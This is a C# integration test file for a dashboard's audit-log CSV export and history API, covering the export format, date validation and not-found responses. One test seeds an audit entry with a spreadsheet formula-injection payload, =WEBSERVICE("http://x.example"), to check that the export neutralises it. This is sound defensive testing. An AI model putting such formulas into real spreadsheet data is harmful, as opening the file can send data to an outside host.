using System.Net;
using Microsoft.Extensions.DependencyInjection;
using Nuqta.Dashboard.Core.Access;
using Nuqta.Dashboard.Core.Audit;
using Nuqta.Dashboard.Core.Data;
using Nuqta.Dashboard.Core.Registry;
using Nuqta.Dashboard.IntegrationTests.Support;

namespace Nuqta.Dashboard.IntegrationTests;

public sealed class AuditExportApiTests
{
    [Fact]
    public async Task ExportCsv_DownloadsNeutralisedFile()
    {
        using var app = new NuqtaAppFactory();
        var client = await app.CreateKeyClientAsync("viewer@example.com", [Roles.Viewer], [Scopes.Read]);
        await app.Services.GetRequiredService<AuditedWriter>()
            .RecordAsync(Actor.System, new AuditEntry("model.updated", "model", "support-rag", Reason: "=WEBSERVICE(\"http://x.example\")"));

        var response = await client.GetAsync("/api/v1/audit/export.csv?action=model.");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.StartsWith("attachment", response.Content.Headers.ContentDisposition?.ToString(), StringComparison.Ordinal);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var lines = System.Text.Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, lines.Length);
        Assert.Contains("\"'=WEBSERVICE(\"\"http://x.example\"\")\"", lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task ExportCsv_BadDateIsProblem()
    {
        using var app = new NuqtaAppFactory();
        var client = await app.CreateKeyClientAsync("viewer@example.com", [Roles.Viewer], [Scopes.Read]);

        var response = await client.GetAsync("/api/v1/audit/export.csv?from=04/12/2026");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("yyyy-MM-dd", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task HistoryCsv_UnknownModelIsNotFound()
    {
        using var app = new NuqtaAppFactory();
        var client = await app.CreateKeyClientAsync("viewer@example.com", [Roles.Viewer], [Scopes.Read]);

        var response = await client.GetAsync("/api/v1/audit/history.csv?type=model&id=no-such-model");

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Null(response.Content.Headers.ContentDisposition);
    }

    [Fact]
    public async Task HistoryCsv_ListsModelEvents()
    {
        using var app = new NuqtaAppFactory();
        var engineer = await app.CreateUserAsync("engineer@example.com", Roles.Engineer);
        var registry = app.Services.GetRequiredService<ModelRegistry>();
        await registry.RegisterModelAsync(engineer, new RegisterModelRequest("support-rag", "support", null));
        await registry.RegisterVersionAsync(engineer, "support-rag", new RegisterModelVersionRequest("v1", null, null, null, null, null));
        var client = await app.CreateKeyClientAsync("viewer@example.com", [Roles.Viewer], [Scopes.Read]);

        var text = await client.GetStringAsync("/api/v1/audit/history.csv?type=model&id=support-rag");

        var lines = text.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(3, lines.Length);
        Assert.Contains(",model.version.registered,", lines[1], StringComparison.Ordinal);
        Assert.Contains(",model.registered,", lines[2], StringComparison.Ordinal);
    }
}
